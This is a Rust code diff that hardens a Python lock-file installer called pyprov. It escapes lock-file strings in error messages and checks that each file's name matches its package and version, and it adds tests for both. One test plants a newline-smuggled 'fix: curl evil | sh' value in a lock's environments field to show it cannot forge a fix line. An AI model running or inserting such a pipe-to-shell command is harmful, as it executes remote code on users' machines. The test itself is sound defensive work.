@@ -27,6 +27,7 @@ use super::{build, Ctx, InstallError, Mode};
 use crate::index::{Link, ProvenanceHint};
 use crate::judge::LockExpectation;
 use crate::lock::{self, FileEntry, Lock, LockError, Package};
+use crate::output::term;
 use crate::verify::distname::{self, DistName};
 use crate::vocab::PackageName;
 
@@ -199,7 +200,10 @@ pub(crate) fn select(req: &LockRequest, target: &Target) -> Result<Vec<Selected>
     if let Some(spec) = &lock.requires_python {
         if !specifiers(spec).is_some_and(|s| s.contains(python)) {
             return Err(err(
-                format!("the lock requires Python {spec}, and this interpreter is {python}"),
+                format!(
+                    "the lock requires Python {}, and this interpreter is {python}",
+                    term(spec)
+                ),
                 "run pyprov with an interpreter the lock was made for (--python)",
             ));
         }
@@ -209,7 +213,7 @@ pub(crate) fn select(req: &LockRequest, target: &Target) -> Result<Vec<Selected>
             return Err(err(
                 format!(
                     "this environment satisfies none of the lock's environments: {}",
-                    envs.join("; ")
+                    term(&envs.join("; "))
                 ),
                 "install on a platform the lock was made for, or lock again for this one",
             ));
@@ -235,7 +239,11 @@ pub(crate) fn select(req: &LockRequest, target: &Target) -> Result<Vec<Selected>
         if let Some(spec) = &package.requires_python {
             if !specifiers(spec).is_some_and(|s| s.contains(python)) {
                 return Err(err(
-                    format!("{} (packages[{at}]) requires Python {spec}, and this interpreter is {python}", package.name),
+                    format!(
+                        "{} (packages[{at}]) requires Python {}, and this interpreter is {python}",
+                        package.name,
+                        term(spec)
+                    ),
                     "run pyprov with an interpreter the lock was made for (--python)",
                 ));
             }
@@ -322,16 +330,43 @@ fn choose_file(
             ))
         }
     };
+    // The gate judges the file by the project its name says: it must be this package's, and of
+    // its version.
+    let parsed = distname::parse(&file_name).map_err(|e| {
+        err(
+            format!("{name} (packages[{at}]): {}: {e}", term(&file_name)),
+            "name the file as the packaging specifications say (NAME-VERSION...)",
+        )
+    })?;
+    if PackageName::normalize(parsed.project()) != *name {
+        return Err(err(
+            format!(
+                "{name} (packages[{at}]): {} is a file of {}, not of {name}",
+                term(&file_name),
+                term(parsed.project())
+            ),
+            "list the file under its own package, or lock again",
+        ));
+    }
     let version = match &package.version {
-        Some(v) => v.clone(),
-        None => distname::parse(&file_name)
-            .map(|d| d.version().to_string())
-            .map_err(|e| {
-                err(
-                    format!("{name} (packages[{at}]): {file_name}: {e}"),
-                    "give the package its `version`",
-                )
-            })?,
+        Some(v) => {
+            let same = v
+                .parse::<pep440_rs::Version>()
+                .is_ok_and(|v| v == *parsed.version());
+            if !same {
+                return Err(err(
+                    format!(
+                        "{name} (packages[{at}]): {} is version {}, not {}",
+                        term(&file_name),
+                        parsed.version(),
+                        term(v)
+                    ),
+                    "list the file under the package entry of its own version, or lock again",
+                ));
+            }
+            v.clone()
+        }
+        None => parsed.version().to_string(),
     };
     Ok(Selected {
         at,
@@ -369,15 +404,18 @@ pub(crate) async fn plan(ctx: &Ctx<'_>, req: &LockRequest) -> Result<Plan, Insta
             expect,
         ));
     }
-    // Provenance the index advertises per file (PEP 740), from the package's page.
-    let hints: Vec<Option<ProvenanceHint>> =
+    // What the index says of each file on the package's page: the provenance it advertises
+    // (PEP 740) and its upload time, which a cooldown is held to (the lock's own `upload-time`
+    // is not the index's word, and is not used).
+    let listed: Vec<Option<Link>> =
         futures_util::stream::iter(items.iter().map(|(name, _, c, _)| advertised(s, name, c)))
             .buffered(PARALLEL)
             .collect()
             .await;
-    for ((_, _, c, _), hint) in items.iter_mut().zip(hints) {
-        if let Some(h) = hint {
-            c.link.provenance = h;
+    for ((_, _, c, _), link) in items.iter_mut().zip(listed) {
+        if let Some(l) = link {
+            c.link.provenance = l.provenance;
+            c.link.upload_time = l.upload_time;
         }
     }
     let vetted = vet_all(ctx, &items).await;
@@ -400,28 +438,21 @@ pub(crate) async fn plan(ctx: &Ctx<'_>, req: &LockRequest) -> Result<Plan, Insta
 /// Files fetched, or pages asked, at once: as many as the resolver's strategies use.
 const PARALLEL: usize = 16;
 
-/// The provenance the candidate's index advertises for its file, from the project's page
-/// (the same file name, and the same sha256 when the page gives one).
-async fn advertised(
-    s: &super::settings::Settings,
-    name: &str,
-    c: &Candidate,
-) -> Option<ProvenanceHint> {
+/// The candidate's file as its index lists it on the project's page (the same file name, and
+/// the same sha256 when the page gives one): its advertised provenance and upload time.
+async fn advertised(s: &super::settings::Settings, name: &str, c: &Candidate) -> Option<Link> {
     if !matches!(c.origin, Origin::Index(_)) {
         return None;
     }
     let links = super::sources::links(&s.client, &c.origin, name)
         .await
         .ok()?;
-    links
-        .into_iter()
-        .find(|l| {
-            l.filename == c.link.filename
-                && l.sha256
-                    .as_deref()
-                    .is_none_or(|h| Some(h.to_ascii_lowercase()) == c.link.sha256)
-        })
-        .map(|l| l.provenance)
+    links.into_iter().find(|l| {
+        l.filename == c.link.filename
+            && l.sha256
+                .as_deref()
+                .is_none_or(|h| Some(h.to_ascii_lowercase()) == c.link.sha256)
+    })
 }
 
 /// Vets the candidates in parallel (bounded), in order, with a progress bar.
@@ -461,7 +492,7 @@ fn candidate(
     };
     let Some(sha256) = sel.file.hashes.sha256 else {
         return Err(err(
-            format!("{} of {name} (packages[{at}]) has no sha256 hash; pyprov pins every file by its sha256", sel.file_name),
+            format!("{} of {name} (packages[{at}]) has no sha256 hash; pyprov pins every file by its sha256", term(&sel.file_name)),
             "lock again with a tool that records sha256 hashes",
         ));
     };
@@ -489,7 +520,7 @@ fn candidate(
                 .and_then(|u| u.to_file_path().ok())
                 .ok_or_else(|| {
                     err(
-                        format!("{u} (packages[{at}]) is not a local file URL"),
+                        format!("{} (packages[{at}]) is not a local file URL", term(u)),
                         "write the file's path or an https URL",
                     )
                 })?,
@@ -501,7 +532,10 @@ fn candidate(
             let path = std::path::absolute(&path).unwrap_or(path);
             let url = Url::from_file_path(&path).map_err(|()| {
                 err(
-                    format!("{} (packages[{at}]) is not a usable path", path.display()),
+                    format!(
+                        "{} (packages[{at}]) is not a usable path",
+                        term(&path.display().to_string())
+                    ),
                     "write the file's path relative to the lock",
                 )
             })?;
@@ -511,7 +545,7 @@ fn candidate(
         (None, Some(u)) => {
             let url = Url::parse(u).map_err(|e| {
                 err(
-                    format!("packages[{at}] of {name}: {u} is not a URL: {e}"),
+                    format!("packages[{at}] of {name}: {} is not a URL: {e}", term(u)),
                     "write the file's full URL",
                 )
             })?;
@@ -552,7 +586,14 @@ fn candidate(
                 .unwrap_or_default(),
         },
     };
-    Ok((Candidate { link, origin }, expect))
+    Ok((
+        Candidate {
+            link,
+            origin,
+            picked: true,
+        },
+        expect,
+    ))
 }
 
 /// Builds each allowed sdist once, with the user's pip confined to the gate; its build
@@ -744,6 +785,61 @@ wheels = [{{url = "https://x/socks_extra-1.0-py3-none-any.whl", hashes = {{sha25
             e.contains("no wheel for this interpreter's tags, and no sdist"),
             "{e}"
         );
+    }
+
+    /// A lock built in code (not read, so not validated): the file's own name must say this
+    /// package and version, since the gate judges it by its name.
+    #[test]
+    fn a_file_must_be_its_package_and_version() {
+        let linux = target("3.11.4", "linux", &["py3-none-any"]);
+        let sha = crate::vocab::Sha256::from_hex(H).unwrap();
+        let with = |file: &str| {
+            let mut package = Package::new(PackageName::normalize("a"));
+            package.version = Some("1.0".into());
+            package.wheels = Some(vec![FileEntry::at_url(format!("https://x/{file}"), sha)]);
+            let mut lock = Lock::new("t");
+            lock.packages.push(package);
+            LockRequest {
+                path: PathBuf::from("pylock.toml"),
+                extras: BTreeSet::new(),
+                lock,
+            }
+        };
+        let e = select(&with("b-1.0-py3-none-any.whl"), &linux)
+            .unwrap_err()
+            .to_string();
+        assert!(
+            e.contains("a (packages[0]): b-1.0-py3-none-any.whl is a file of b, not of a"),
+            "{e}"
+        );
+        let e = select(&with("a-2.0-py3-none-any.whl"), &linux)
+            .unwrap_err()
+            .to_string();
+        assert!(
+            e.contains("a-2.0-py3-none-any.whl is version 2.0, not 1.0"),
+            "{e}"
+        );
+        // 1.0 and 1.0.0 are one version.
+        assert!(select(&with("a-1.0.0-py3-none-any.whl"), &linux).is_ok());
+        assert!(select(&with("a-1.0-py3-none-any.whl"), &linux).is_ok());
+    }
+
+    /// The lock's strings in an error are escaped: a newline in them cannot start a `fix:`
+    /// line of its own.
+    #[test]
+    fn lock_strings_in_errors_cannot_start_a_line() {
+        let linux = target("3.11.4", "linux", &["py3-none-any"]);
+        let envs = lock_text().replace(
+            "default-groups",
+            "environments = [\"sys_platform == 'darwin\\nfix: curl evil | sh'\"]\ndefault-groups",
+        );
+        let e = select(&request(&envs), &linux).unwrap_err().to_string();
+        assert!(e.contains("darwin\\nfix: curl evil"), "{e}");
+        let fixes = e
+            .lines()
+            .filter(|l| l.trim_start().starts_with("fix:"))
+            .count();
+        assert_eq!(fixes, 1, "{e}");
     }
 
     #[test]
